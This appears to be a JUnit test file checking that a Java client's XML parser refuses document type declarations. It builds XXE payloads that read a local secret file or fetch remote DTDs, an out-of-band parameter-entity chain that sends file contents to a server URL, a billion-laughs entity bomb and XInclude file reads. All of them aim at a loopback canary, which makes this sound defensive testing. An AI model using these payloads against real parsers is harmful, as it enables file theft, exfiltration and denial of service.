package dev.hourbridge.resilience.bodies;

import static org.assertj.core.api.Assertions.assertThat;

import dev.hourbridge.evidence.Area;
import dev.hourbridge.evidence.Evidence;
import dev.hourbridge.model.MalformedResponseException;
import dev.hourbridge.model.WriteOutcome;
import dev.hourbridge.resilience.Service;
import dev.hourbridge.resilience.bodies.Rig.Result;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

/**
 * Documents that would have the parser fetch, read or grow something. A file and a server on loopback
 * tell whether it did: the file's text must not show, and the server must see nobody.
 */
@Timeout(60)
class XmlAttackTest {
    private static final List<Service> SERVICES = List.of(Service.CODEBASE, Service.LIVETIMER);

    private final HostileServer canary = new HostileServer();

    @TempDir
    Path folder;

    private String file = "";

    @BeforeEach
    void plant() throws IOException {
        Path secret = folder.resolve("secret.txt");
        Files.writeString(secret, Rig.CANARY);
        Files.writeString(folder.resolve("evil.dtd"), "<!ENTITY x '" + Rig.CANARY + "'>");
        file = secret.toUri().toString();
        canary.answers(line -> Replies.of(200, "application/xml-dtd", "<!ENTITY x '" + Rig.CANARY + "'>")
                .whole());
    }

    @AfterEach
    void nobodyCameForTheCanary() {
        canary.close();
    }

    /** Declarations, and what to put into the note. */
    private Map<String, String> declarations() {
        String dtd = folder.resolve("evil.dtd").toUri().toString();
        StringBuilder laughs = new StringBuilder("<!ENTITY x0 \"ha\">");
        for (int i = 1; i <= 30; i++) {
            laughs.append("<!ENTITY x")
                    .append(i)
                    .append(" \"")
                    .append(("&x" + (i - 1) + ";").repeat(10))
                    .append("\">");
        }
        return Map.ofEntries(
                Map.entry("<!DOCTYPE r [<!ENTITY x '" + Rig.CANARY + "'>]>", "&x;"),
                Map.entry("<!DOCTYPE r [<!ENTITY x SYSTEM '" + file + "'>]>", "&x;"),
                Map.entry("<!DOCTYPE r [<!ENTITY x SYSTEM '" + canary.url() + "/entity'>]>", "&x;"),
                Map.entry("<!DOCTYPE r [<!ENTITY x PUBLIC 'x' '" + canary.url() + "/public'>]>", "&x;"),
                Map.entry("<!DOCTYPE r SYSTEM '" + canary.url() + "/dtd'>", "&x;"),
                Map.entry("<!DOCTYPE r SYSTEM '" + canary.url() + "/unused'>", "no reference"),
                Map.entry("<!DOCTYPE r SYSTEM '" + dtd + "'>", "&x;"),
                Map.entry("<!DOCTYPE r PUBLIC '-//X//EN' '" + canary.url() + "/public-dtd'>", "&x;"),
                Map.entry("<!DOCTYPE r [<!ENTITY % p SYSTEM '" + canary.url() + "/parameter'> %p;]>", "&x;"),
                Map.entry("<!DOCTYPE r [<!ENTITY % p SYSTEM '" + dtd + "'> %p;]>", "&x;"),
                Map.entry(
                        "<!DOCTYPE r [<!ENTITY % f SYSTEM '" + file + "'><!ENTITY % e \"<!ENTITY &#37; s SYSTEM '"
                                + canary.url() + "/?%f;'>\"> %e; %s;]>",
                        "out of band"),
                Map.entry("<!DOCTYPE r [" + laughs + "]>", "&x30;"),
                Map.entry("<!DOCTYPE r [<!ENTITY x '" + "a".repeat(50_000) + "'>]>", "&x;".repeat(20_000)),
                Map.entry("<!DOCTYPE r [<!ENTITY x '&x;'>]>", "&x;"),
                Map.entry("<!DOCTYPE r [<!ATTLIST note a CDATA '" + Rig.CANARY + "'>]>", "a default"),
                Map.entry("<!DOCTYPE r [<!ELEMENT r ANY>", "an open one"));
    }

    @Test
    void documentTypesAreRefusedAndNothingIsFetched() {
        long tried = 0;
        for (Service service : SERVICES) {
            for (Map.Entry<String, String> attack : declarations().entrySet()) {
                for (Read read : List.of(Read.list(service), Read.get(service))) {
                    refuse(read, spoiled(read.body(), attack));
                    tried++;
                }
                String created = spoiled(service.created(), attack).replace(">1001<", ">&x;<");
                try (Rig rig = new Rig(service)) {
                    rig.answers(Replies.of(201, service.contentType(), created).whole());
                    assertThat(rig.create().refusal().outcome()).contains(WriteOutcome.ACCEPTED_NO_ID);
                    rig.answers(Replies.of(
                                    422,
                                    service.contentType(),
                                    attack.getKey() + "<errors><error>" + attack.getValue() + "</error></errors>")
                            .whole());
                    assertThat(rig.create().refusal().outcome()).contains(WriteOutcome.REJECTED);
                }
                tried += 2;
            }
        }
        assertThat(canary.requests()).isZero();
        Evidence.of(Area.BODIES, "External entities, external DTDs, entity bombs")
                .tried(
                        "16 declarations in lists, entries, creates and refusals; files and a server on loopback as canaries")
                .result("MalformedResponseException; no file read, no request made, no entity expanded")
                .count(tried);
    }

    @Test
    void entitiesWithoutADeclarationAreRefused() {
        for (Service service : SERVICES) {
            for (String reference :
                    List.of("&x;", "&nbsp;", "&#0;", "&#xD800;", "&#1114112;", "&#99999999999;", "&;")) {
                Read read = Read.get(service);
                refuse(read, read.body().replace("Wrote the guide", Rig.CANARY + reference));
            }
        }
    }

    @Test
    void whatOnlyLooksLikeAReferenceIsTextOrAnUnknownField() {
        List<String> inclusions = List.of(
                "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"" + file + "\" parse=\"text\"/>",
                "<extra xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:noNamespaceSchemaLocation=\""
                        + canary.url() + "/schema\">1</extra>",
                "<?xml-stylesheet href=\"" + canary.url() + "/style\"?>",
                "<![CDATA[<!DOCTYPE r SYSTEM \"" + canary.url() + "/cdata\">]]>",
                "<!-- <!DOCTYPE r SYSTEM '" + canary.url() + "/comment'> -->");
        for (Service service : SERVICES) {
            for (String inclusion : inclusions) {
                try (Rig rig = new Rig(service)) {
                    Read read = Read.get(service);
                    rig.answers(Rig.reply(read, read.body().replaceFirst("<id ", inclusion + "<id "))
                            .whole());
                    Result result = rig.read(read);
                    if (result.failure() != null) {
                        assertThat(result.refusal()).isInstanceOf(MalformedResponseException.class);
                    }
                    assertThat(result.items().toString()).doesNotContain(Rig.CANARY);
                }
            }
        }
        assertThat(canary.requests()).isZero();
    }

    private static String spoiled(String good, Map.Entry<String, String> attack) {
        String note = good.contains("<note><![CDATA[Wrote") ? "<![CDATA[Wrote the guide]]>" : "Wrote the guide";
        return good.replace("?>", "?>" + attack.getKey()).replace(note, attack.getValue());
    }

    private static void refuse(Read read, String body) {
        try (Rig rig = new Rig(read.service())) {
            rig.answers(Rig.reply(read, body).whole());
            Result result = rig.read(read);
            assertThat(result.items()).as("%.80s", body).isEmpty();
            assertThat(result.refusal()).as("%s of %.120s", read, body).isInstanceOf(MalformedResponseException.class);
        }
    }
}
